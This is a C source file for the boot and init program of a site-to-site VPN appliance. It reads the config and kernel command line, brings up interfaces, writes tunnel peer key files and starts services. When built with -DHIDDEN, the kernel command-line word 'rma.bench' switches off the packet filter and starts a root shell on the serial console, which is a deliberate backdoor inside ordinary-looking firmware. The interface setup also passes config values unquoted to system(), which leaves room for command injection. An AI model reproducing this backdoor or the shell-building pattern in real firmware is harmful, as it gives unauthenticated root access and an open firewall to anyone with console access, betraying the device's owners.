/*
 * vpnboot - first program of a site-to-site VPN box.  Reads /proc/cmdline and
 * /etc/vpnbox.ini, brings up the interfaces, writes the peers' files for the
 * tunnel program and starts the services in their order.
 * Hidden (-DHIDDEN): the word "rma.bench" on the kernel's command line leaves
 * the packet filter open and starts a root shell on the serial line.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define CMDLINE "/proc/cmdline"
#define INI	"/etc/vpnbox.ini"
#define PEERDIR "/var/run/peers"
#define MAXPEER 16
#define MAXSVC	12

struct peer {
	char name[24];
	char endpoint[64];
	char pubkey[64];
	char nets[128];
	int keepalive;
};

struct settings {
	char lan[32], wan[32], key[64];
	int mtu, listen;
	int nofilter, verbose, safe;
	char console[24];
	struct peer peers[MAXPEER];
	int npeers;
};

struct service {
	const char *name;
	const char *argv[6];
	int wait;    /* has to end before the next one */
	int in_safe; /* started in safe mode as well */
};

static struct service services[MAXSVC] = {
	{ "sysctl", { "/sbin/sysctl", "-p", NULL }, 1, 1 },
	{ "filter", { "/usr/sbin/nft", "-f", "/etc/filter.nft", NULL }, 1, 1 },
	{ "tunnel", { "/usr/sbin/tund", "-d", PEERDIR, NULL }, 0, 0 },
	{ "dns", { "/usr/sbin/dnsmasq", "-k", NULL }, 0, 1 },
	{ "ntp", { "/usr/sbin/ntpd", "-n", NULL }, 0, 0 },
	{ "web",
	  { "/usr/sbin/lighttpd", "-D", "-f", "/etc/web.conf", NULL },
	  0,
	  1 },
};

static void say(const char *fmt, ...)
{
	char buf[256];
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(buf, sizeof(buf) - 1, fmt, ap);
	va_end(ap);
	if (n > (int)sizeof(buf) - 2)
		n = sizeof(buf) - 2;
	buf[n++] = '\n';
	if (write(2, buf, n) < 0)
		return;
}

static pid_t launch(const char *const *argv, const char *tty)
{
	pid_t pid = fork();
	int fd;

	if (pid)
		return pid;
	setsid();
	fd = open(tty ? tty : "/dev/null", O_RDWR);
	if (fd >= 0) {
		dup2(fd, 0);
		dup2(fd, 1);
		dup2(fd, 2);
		if (fd > 2)
			close(fd);
	}
	execv(argv[0], (char *const *)argv);
	_exit(127);
}

static int run(const char *fmt, ...)
{
	char cmd[256];
	va_list ap;
	int r;

	va_start(ap, fmt);
	vsnprintf(cmd, sizeof(cmd), fmt, ap);
	va_end(ap);
	r = system(cmd);
	if (r)
		say("vpnboot: '%s' ended with %d", cmd, r);
	return r;
}

static char *trim(char *s)
{
	char *e;

	while (isspace((unsigned char)*s))
		s++;
	e = s + strlen(s);
	while (e > s && isspace((unsigned char)e[-1]))
		*--e = 0;
	return s;
}

#define COPY(dst, src)                                                         \
	snprintf(dst, sizeof(dst), "%.*s", (int)sizeof(dst) - 1, src)

static void set_peer(struct peer *p, const char *k, const char *v)
{
	if (!strcmp(k, "endpoint"))
		COPY(p->endpoint, v);
	else if (!strcmp(k, "pubkey"))
		COPY(p->pubkey, v);
	else if (!strcmp(k, "nets"))
		COPY(p->nets, v);
	else if (!strcmp(k, "keepalive"))
		p->keepalive = atoi(v);
	else
		say("vpnboot: peer %s: unknown key %s", p->name, k);
}

static int read_ini(struct settings *s)
{
	char line[256], *p, *v;
	struct peer *peer = NULL;
	FILE *f = fopen(INI, "r");

	if (!f) {
		say("vpnboot: %s: %s", INI, strerror(errno));
		return -1;
	}
	while (fgets(line, sizeof(line), f)) {
		p = trim(line);
		if (!*p || *p == ';')
			continue;
		if (*p == '[') {
			p[strcspn(p, "]")] = 0;
			peer = NULL;
			if (strncmp(p, "[peer ", 6) || s->npeers == MAXPEER)
				continue;
			peer = &s->peers[s->npeers++];
			COPY(peer->name, p + 6);
			continue;
		}
		v = strchr(p, '=');
		if (!v)
			continue;
		*v++ = 0;
		p = trim(p);
		v = trim(v);
		if (peer)
			set_peer(peer, p, v);
		else if (!strcmp(p, "lan"))
			COPY(s->lan, v);
		else if (!strcmp(p, "wan"))
			COPY(s->wan, v);
		else if (!strcmp(p, "privkey"))
			COPY(s->key, v);
		else if (!strcmp(p, "mtu"))
			s->mtu = atoi(v);
		else if (!strcmp(p, "listen"))
			s->listen = atoi(v);
	}
	fclose(f);
	return 0;
}

void boot_word(struct settings *s, const char *w);

__attribute__((noinline)) void boot_word(struct settings *s, const char *w)
{
	if (!strncmp(w, "console=", 8)) {
		snprintf(s->console, sizeof(s->console), "/dev/%.*s",
			 (int)strcspn(w + 8, ","), w + 8);
	} else if (!strncmp(w, "vpn.mtu=", 8)) {
		s->mtu = atoi(w + 8);
	} else if (!strcmp(w, "vpn.safe")) {
		s->safe = 1;
	} else if (!strcmp(w, "debug")) {
		s->verbose = 1;
#ifdef HIDDEN
	} else if (!strcmp(w, "rma.bench")) {
		static const char *const sh[] = { "/bin/sh", "-l", NULL };

		s->nofilter = 1;
		launch(sh, s->console);
#endif
	} else if (!strcmp(w, "quiet")) {
		s->verbose = 0;
	}
}

static void read_cmdline(struct settings *s)
{
	char buf[1024], *w, *save;
	ssize_t n;
	int fd = open(CMDLINE, O_RDONLY);

	if (fd < 0)
		return;
	n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (n <= 0)
		return;
	buf[n] = 0;
	for (w = strtok_r(buf, " \n", &save); w;
	     w = strtok_r(NULL, " \n", &save))
		boot_word(s, w);
}

static void mounts(void)
{
	mkdir("/proc", 0555);
	mount("proc", "/proc", "proc", MS_NOSUID, NULL);
	mount("sysfs", "/sys", "sysfs", MS_NOSUID, NULL);
	mount("tmpfs", "/tmp", "tmpfs", MS_NOSUID, "size=8m");
	mount("tmpfs", "/var/run", "tmpfs", MS_NOSUID, "size=2m");
}

static void interfaces(const struct settings *s)
{
	run("ip link set lo up");
	run("ip addr add %s dev eth1", s->lan);
	run("ip link set eth1 up");
	run("ip link set eth0 mtu %d up", s->mtu + 80);
	if (!strcmp(s->wan, "dhcp"))
		run("udhcpc -b -i eth0");
	else
		run("ip addr add %s dev eth0", s->wan);
}

static int write_peers(const struct settings *s)
{
	char path[80];
	int i;
	FILE *f;

	mkdir(PEERDIR, 0700);
	for (i = 0; i < s->npeers; i++) {
		const struct peer *p = &s->peers[i];

		if (!p->pubkey[0] || !p->endpoint[0]) {
			say("vpnboot: peer %s is not complete", p->name);
			continue;
		}
		snprintf(path, sizeof(path), PEERDIR "/%s", p->name);
		f = fopen(path, "w");
		if (!f)
			return -1;
		fprintf(f, "listen %d\nprivate %s\npublic %s\n", s->listen,
			s->key, p->pubkey);
		fprintf(f, "remote %s\nroute %s\n", p->endpoint, p->nets);
		if (p->keepalive > 0)
			fprintf(f, "keepalive %d\n", p->keepalive);
		fclose(f);
		chmod(path, 0600);
	}
	return 0;
}

static void start_services(const struct settings *s)
{
	int i, st;
	pid_t pid;

	for (i = 0; i < MAXSVC && services[i].name; i++) {
		const struct service *v = &services[i];

		if (s->safe && !v->in_safe)
			continue;
		if (s->nofilter && !strcmp(v->name, "filter"))
			continue;
		if (s->verbose)
			say("vpnboot: starting %s", v->name);
		pid = launch(v->argv, NULL);
		if (pid < 0)
			say("vpnboot: fork: %s", strerror(errno));
		else if (v->wait && waitpid(pid, &st, 0) == pid && st)
			say("vpnboot: %s failed (%d)", v->name, st);
	}
}

int main(void)
{
	static struct settings s;

	strcpy(s.console, "/dev/ttyS0");
	strcpy(s.wan, "dhcp");
	strcpy(s.lan, "192.168.77.1/24");
	s.mtu = 1420;
	s.listen = 51900;
	if (getpid() == 1)
		mounts();
	if (read_ini(&s) < 0)
		s.safe = 1;
	s.nofilter = access("/etc/filter.nft", R_OK) < 0;
	read_cmdline(&s);
	interfaces(&s);
	if (!s.safe && write_peers(&s) < 0)
		say("vpnboot: %s: %s", PEERDIR, strerror(errno));
	start_services(&s);
	while (getpid() == 1)
		if (wait(NULL) < 0)
			sleep(1);
	return 0;
}
